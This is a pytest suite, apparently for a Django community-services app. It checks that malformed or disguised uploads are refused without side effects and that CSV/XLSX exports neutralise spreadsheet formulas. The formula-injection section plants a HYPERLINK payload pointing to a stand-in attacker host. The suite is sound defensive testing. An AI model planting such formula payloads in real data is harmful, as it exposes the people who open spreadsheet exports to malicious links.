"""Malformed files at every entry point, and formulas in every export.

Each import or upload (the catalogue import page, application attachments, the signed contract scan on the page
and in the API, burden report evidence) is sent files that are not what they claim to be, too large, broken,
empty or in the wrong encoding. Each is refused with an answer that names what is wrong (and the row and column
for a row's error), and nothing changes: the affected tables and the audit trail have as many rows as before.

Every export (catalogue CSV and XLSX, funding CSV and XLSX, the audit trail CSV) is given text that starts
with each character a spreadsheet would run as a formula (= + - @ tab CR); every such cell comes out with a
leading apostrophe, and no XLSX cell is a formula.
"""

import csv
import io
import zipfile
from datetime import date, timedelta
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from approvals.models import Attachment
from audits.models import AuditEntry, BurdenReport, Evidence
from catalog import services as catalog_services
from catalog.models import CatalogueImport, CatalogueItem, CatalogueVersion, Notification, Unit
from funding import services as funding_services
from funding.models import Contract

pytestmark = pytest.mark.django_db
ENGLISH = {"HTTP_ACCEPT_LANGUAGE": "en"}  # the messages are asserted in their English source text


@pytest.fixture(autouse=True)
def _english_chosen(client):
    client.cookies["django_language"] = "en"  # pages follow the chosen language, not Accept-Language


@pytest.fixture(autouse=True)
def _uploads_in_tmp(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)  # an accepted upload is written here, and removed with it


# --- Files that are not what their names say ---------------------------------------------------------------

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02" + bytes(200)
EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"This program cannot be run in DOS mode"
    + bytes(200)
)
PDF = b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\n%%EOF\n"


def _xlsx(rows=(), *, sheets=True) -> bytes:
    workbook = Workbook()
    if sheets:
        for row in rows:
            workbook.active.append(list(row))
    else:  # a workbook whose only sheet is a chart: no worksheet at all
        workbook.remove(workbook.active)
        workbook.create_chartsheet()
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _zip(**members) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


GOOD_XLSX = _xlsx([["清单", "事项名称"], ["履职", "组织居民议事会"]])


def _counts(*models) -> dict:
    return {model.__name__: model.objects.count() for model in (*models, AuditEntry)}


# --- The catalogue import (page) ------------------------------------------------------------------------------

IMPORT_CASES = [
    # name, file name, content, what the answer must say
    ("a PNG renamed .xlsx", "清单.xlsx", PNG, "not a readable XLSX workbook"),
    ("an EXE renamed .csv", "清单.csv", EXE, "neither UTF-8 nor GBK"),
    ("a truncated workbook", "清单.xlsx", GOOD_XLSX[: len(GOOD_XLSX) // 2], "not a readable XLSX workbook"),
    ("a zip that is not a workbook", "清单.xlsx", _zip(**{"readme.txt": "hello"}), "not a readable XLSX workbook"),
    ("a workbook with no worksheet", "清单.xlsx", _xlsx(sheets=False), "not a readable XLSX workbook"),
    ("a workbook with an empty sheet", "清单.xlsx", _xlsx([]), "The file is empty."),
    ("headers and no rows", "清单.csv", "清单,事项名称\n".encode(), "headers but no rows"),
    ("UTF-16 text", "清单.csv", "清单,事项名称\n履职,组织居民议事会\n".encode("utf-16"), "neither UTF-8 nor GBK"),
    ("Latin-1 text", "清单.csv", "liste,titre\nété,réunion\n".encode("latin-1"), "neither UTF-8 nor GBK"),
    ("NUL characters", "清单.csv", "清单,事项名称\n履职,组织\x00居民\n".encode(), "NUL characters"),
    ("a PDF", "清单.pdf", PDF, "Upload an .xlsx or .csv file"),
    ("more than 5 MB", "清单.csv", "清单,事项名称\n".encode() + b"x" * (5 * 1024 * 1024), "larger than 5 MB"),
]


@pytest.fixture
def draft(world):
    return catalog_services.draft_start(district=world.unit("锦江区"), actor=world.user("minzheng"))


@pytest.fixture
def importing(client, world, draft):
    client.force_login(world.user("minzheng"))

    def post(name, content):
        upload = SimpleUploadedFile(name, content)
        return client.post(f"/catalogue/{draft.district_id}/draft/import/", {"file": upload}, follow=True, **ENGLISH)

    return post


@pytest.mark.parametrize(("case", "name", "content", "says"), IMPORT_CASES, ids=[c[0] for c in IMPORT_CASES])
def test_a_malformed_catalogue_file_is_refused_and_changes_nothing(importing, case, name, content, says):
    before = _counts(CatalogueItem, CatalogueVersion)
    response = importing(name, content)
    assert response.status_code == 400
    assert says in response.content.decode(), case
    assert _counts(CatalogueItem, CatalogueVersion) == before


def test_an_empty_catalogue_file_is_refused_as_empty(importing):
    before = _counts(CatalogueItem, CatalogueVersion)
    response = importing("清单.csv", b"")
    assert [str(m) for m in response.context["messages"]] == [
        "Choose an .xlsx or .csv file to import. The submitted file is empty."
    ]
    assert _counts(CatalogueItem, CatalogueVersion) == before


def _catalogue_counts() -> dict:
    """The catalogue's rows; a refused import is kept (its file comes back marked), nothing else is written."""
    return {model.__name__: model.objects.count() for model in (CatalogueItem, CatalogueVersion)}


def test_wrong_headers_are_named_with_their_row_and_column(importing):
    before = _catalogue_counts()
    response = importing("清单.xlsx", _xlsx([["清单", "名字", "备注栏"], ["履职", "组织居民议事会", ""]]))
    assert response.status_code == 400
    errors = response.context["errors"]
    assert {(e.row, e.column) for e in errors} >= {(1, "名字"), (1, "备注栏")}
    assert any("“事项名称” (title)" in e.message for e in errors)
    assert _catalogue_counts() == before
    assert CatalogueImport.objects.get().state == "refused"


def test_a_bad_row_is_named_by_row_and_column_and_the_good_rows_are_not_imported(importing):
    before = _catalogue_counts()
    rows = [
        ["清单", "事项名称", "发文层级", "每年最多次数"],
        ["履职", "组织居民议事会", "", ""],
        ["考核", "省级文明社区测评", "省", "两三次"],  # 两次 is read as 2; two or three is no number
    ]
    response = importing("清单.xlsx", _xlsx(rows))
    assert response.status_code == 400
    assert [(e.row, e.column) for e in response.context["errors"]] == [(3, "每年最多次数")]
    assert "Row 3, column “每年最多次数”" in str(response.context["errors"][0])
    assert _catalogue_counts() == before


def test_a_cell_too_long_for_csv_is_refused_with_its_row(importing):
    before = _counts(CatalogueItem, CatalogueVersion)
    response = importing("清单.csv", ("清单,事项名称\n履职,短\n履职," + "长" * 200_000 + "\n").encode())
    assert response.status_code == 400
    assert [e.row for e in response.context["errors"]] == [3]
    assert "cannot be read as CSV" in response.content.decode()
    assert _counts(CatalogueItem, CatalogueVersion) == before


def test_a_workbook_of_too_many_rows_is_refused_without_reading_them_all(importing):
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet()
    sheet.append(["清单", "事项名称"])
    for n in range(50_000):  # 50,000 rows compress to well under the 5 MB limit
        sheet.append(["履职", f"事项{n}"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    before = _counts(CatalogueItem, CatalogueVersion)
    response = importing("清单.xlsx", buffer.getvalue())
    assert response.status_code == 400
    assert [(e.row, str(e)) for e in response.context["errors"]] == [
        (5002, "Row 5002: At most 5000 rows can be imported at once.")
    ]
    assert _counts(CatalogueItem, CatalogueVersion) == before


# --- Uploads checked by content: attachments, the signed contract, burden report evidence -----------------------

UPLOAD_CASES = [
    ("a PNG renamed .xlsx", "附件.xlsx", PNG, "is not really a .xlsx file"),
    ("an EXE renamed .pdf", "附件.pdf", EXE, "is not really a .pdf file"),
    ("a zip that is not a document", "附件.docx", _zip(**{"readme.txt": "hello"}), "is not really a .docx file"),
    ("a truncated document", "附件.docx", GOOD_XLSX[:300], "is not really a .docx file"),
    ("an executable", "附件.exe", EXE, "only PDF, images (PNG, JPEG) and office documents"),
    ("more than 10 MB", "附件.pdf", PDF + b"0" * (10 * 1024 * 1024), "is larger than 10 MB"),
]
UPLOAD_IDS = [c[0] for c in UPLOAD_CASES]


@pytest.fixture
def application(world):
    from approvals import services

    return services.application_save(
        actor=world.user("bumen"),
        title="协助开展老年人健康体检组织工作",
        reason="体检",
        requested_list="assistance",
        workload="5天",
        start_date=date(2027, 3, 1),
        payer=Unit.objects.get(name="区卫生健康局", district=world.unit("锦江区")),
        amount_per_community="1200.00",
    )


@pytest.mark.parametrize(("case", "name", "content", "says"), UPLOAD_CASES, ids=UPLOAD_IDS)
def test_a_bad_attachment_is_refused_and_changes_nothing(client, world, application, case, name, content, says):
    client.force_login(world.user("bumen"))
    before = _counts(Attachment)
    response = client.post(
        f"/applications/{application.pk}/attach/", {"file": SimpleUploadedFile(name, content)}, follow=True, **ENGLISH
    )
    assert [m.level_tag for m in response.context["messages"]] == ["error"]
    assert says in str(next(iter(response.context["messages"]))), case
    assert _counts(Attachment) == before


def test_an_empty_attachment_is_refused_as_empty(client, world, application):
    client.force_login(world.user("bumen"))
    before = _counts(Attachment)
    response = client.post(
        f"/applications/{application.pk}/attach/", {"file": SimpleUploadedFile("附件.pdf", b"")}, follow=True, **ENGLISH
    )
    assert "The submitted file is empty." in [str(m) for m in response.context["messages"]]
    assert _counts(Attachment) == before


@pytest.fixture
def contract(world):
    from catalog.selectors import version_in_force

    jinjiang = world.unit("锦江区")
    item = version_in_force(district_id=jinjiang.pk, on=date(2026, 11, 1)).items.get(
        title="协助开展爱国卫生运动和健康教育"
    )
    return funding_services.contract_create(
        actor=world.user("bumen"),
        payer=Unit.objects.get(name="区卫生健康局", district=jinjiang),
        number="WJ-坏文件",
        item=item,
        communities=[world.unit("牛沙路社区")],
        amount_per_community=Decimal("1200.00"),
        starts_on=date(2026, 1, 1),
        ends_on=date(2026, 12, 31),
        schedule=[(date(2026, 6, 30), Decimal(100))],
    )


SCAN_CASES = [
    *UPLOAD_CASES,
    ("an office document", "协议.docx", _zip(**{"[Content_Types].xml": "<Types/>"}), "as a PDF or a scan"),
    ("an empty file", "协议.pdf", b"", "The submitted file is empty."),
]


def _unsigned(contract) -> bool:
    contract.refresh_from_db()
    return contract.state == "draft" and not contract.signed_document and contract.signed_at is None


@pytest.mark.parametrize(("case", "name", "content", "says"), SCAN_CASES, ids=[c[0] for c in SCAN_CASES])
def test_a_bad_contract_scan_is_refused_by_the_api_and_changes_nothing(
    api_client, world, contract, case, name, content, says
):
    api_client.force_authenticate(world.user("bumen"))
    before = _counts(Contract)
    response = api_client.post(
        f"/api/v1/contracts/{contract.pk}/sign/",
        {"document": SimpleUploadedFile(name, content)},
        format="multipart",
        **ENGLISH,
    )
    assert response.status_code == 400
    field, messages = next(iter(response.json().items()))
    assert field in ("document", "signed_document") and says in " ".join(messages), (case, response.json())
    assert _unsigned(contract) and _counts(Contract) == before


@pytest.mark.parametrize(("case", "name", "content", "says"), SCAN_CASES[:4], ids=[c[0] for c in SCAN_CASES[:4]])
def test_a_bad_contract_scan_is_refused_on_the_page_and_changes_nothing(
    client, world, contract, case, name, content, says
):
    client.force_login(world.user("bumen"))
    before = _counts(Contract)
    response = client.post(
        f"/funding/contracts/{contract.pk}/sign/",
        {"document": SimpleUploadedFile(name, content)},
        follow=True,
        **ENGLISH,
    )
    assert [m.level_tag for m in response.context["messages"]] == ["error"]
    assert says in str(next(iter(response.context["messages"]))), case
    assert _unsigned(contract) and _counts(Contract) == before


@pytest.mark.parametrize(("case", "name", "content", "says"), UPLOAD_CASES, ids=UPLOAD_IDS)
def test_bad_evidence_refuses_the_whole_burden_report(client, world, case, name, content, says):
    client.force_login(world.user("shuji"))
    economy = Unit.objects.get(name="区市场监督管理局", district=world.unit("锦江区"))
    before = _counts(BurdenReport, Evidence, Notification)
    response = client.post(
        "/supervision/reports/new/",
        {
            "demanding_unit": economy.pk,
            "demand": "要求社区统计辖区企业",
            "demanded_on": "2026-11-01",
            "evidence": [SimpleUploadedFile("照片.png", PNG), SimpleUploadedFile(name, content)],
        },
        **ENGLISH,
    )
    assert response.status_code == 200  # the form again, with the error at the evidence field
    assert any(says in error for error in response.context["form"].errors["evidence"]), case
    assert _counts(BurdenReport, Evidence, Notification) == before


# --- Formulas in exported cells ---------------------------------------------------------------------------

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("http://attacker.invalid/?x=1","点击")'


def _csv_cells(response) -> list[str]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(body, newline="")) for cell in row]


def _xlsx_cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_neutralised(cells: list[str], start: str) -> None:
    planted = [cell for cell in cells if PAYLOAD in cell]
    assert planted, "the planted text is not in the export"
    assert all(cell == f"'{start}{PAYLOAD}" or cell.startswith("'") for cell in planted), planted


def _assert_xlsx_neutralised(content: bytes, start: str) -> None:
    cells = [cell for cell in _xlsx_cells(content) if isinstance(cell.value, str) and PAYLOAD in cell.value]
    assert cells, "the planted text is not in the export"
    assert all(cell.data_type == "s" and cell.value.startswith("'") for cell in cells)
    assert not any(cell.data_type == "f" for cell in _xlsx_cells(content))


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_catalogue_exports_never_start_a_formula(client, world, draft, start):
    minzheng, tomorrow = world.user("minzheng"), timezone.localdate() + timedelta(days=1)
    catalog_services.item_save(
        draft=draft,
        actor=minzheng,
        list="duties",
        type="work_task",
        title=start + PAYLOAD,
        basis_document=start + PAYLOAD,
    )
    catalog_services.version_publish(draft=draft, actor=minzheng, effective_from=tomorrow)
    url = f"/catalogue/{draft.district_id}/export"
    _assert_neutralised(_csv_cells(client.get(f"{url}.csv", {"date": tomorrow})), start)
    _assert_xlsx_neutralised(client.get(f"{url}.xlsx", {"date": tomorrow}).content, start)


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_funding_exports_never_start_a_formula(client, world, contract, start):
    bumen = world.user("bumen")
    funding_services.contract_sign(
        contract=contract, actor=bumen, document=SimpleUploadedFile("协议.pdf", PDF), today=date(2026, 3, 1)
    )
    funding_services.payment_record(
        instalment=contract.instalments.get(),
        actor=bumen,
        amount=Decimal("100.00"),
        paid_on=date(2026, 3, 1),
        voucher=start + PAYLOAD[:40],
        note=start + PAYLOAD,
    )
    client.force_login(world.user("shenji"))
    query = {"start": "2026-01-01", "end": "2026-12-31"}
    _assert_neutralised(_csv_cells(client.get("/funding/report/export.csv", query)), start)
    xlsx = b"".join(client.get("/funding/report/export.xlsx", query).streaming_content)
    _assert_xlsx_neutralised(xlsx, start)
    lines = load_workbook(io.BytesIO(xlsx))["付款明细"]
    amounts = [cell.value for cell in lines["C"][1:] if cell.value is not None]
    assert amounts == [100, 100]  # the line and its total: numbers a spreadsheet can add up, not text


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_the_audit_trail_export_never_starts_a_formula(client, world, start):
    # A failed login records whatever was typed as the username: an attacker chooses the note's text.
    from django.contrib.auth import authenticate
    from django.test import RequestFactory

    # As an API client or a form that keeps the text as typed would send it (the login form strips spaces).
    assert authenticate(RequestFactory().post("/accounts/login/"), username=start + PAYLOAD, password="wrong") is None
    client.force_login(world.user("admin"))
    response = client.get("/supervision/trail/export.csv", {"action": "failed_login"})
    _assert_neutralised(_csv_cells(response), start)


# --- Ids too long for a database column (found by the schema fuzzing on SQLite) ---------------------------------

BIG = "9" * 23


@pytest.mark.parametrize(
    ("url", "status"),
    [
        (f"/api/v1/cities/?city={BIG}", 400),
        (f"/api/v1/communities/?street={BIG}", 400),
        (f"/api/v1/users/?unit={BIG}", 400),
        (f"/api/v1/users/?district={BIG}", 400),
        (f"/api/v1/funding-report/?payer={BIG}", 400),
        (f"/api/v1/policies/{BIG}/", 404),
        (f"/api/v1/applications/{BIG}/", 404),
    ],
)
def test_an_id_too_long_for_a_column_is_refused_not_a_server_error(api_client, world, url, status):
    api_client.force_authenticate(world.user("minzheng"))
    response = api_client.get(url)
    assert response.status_code == status and response["Content-Type"] == "application/json", response.content
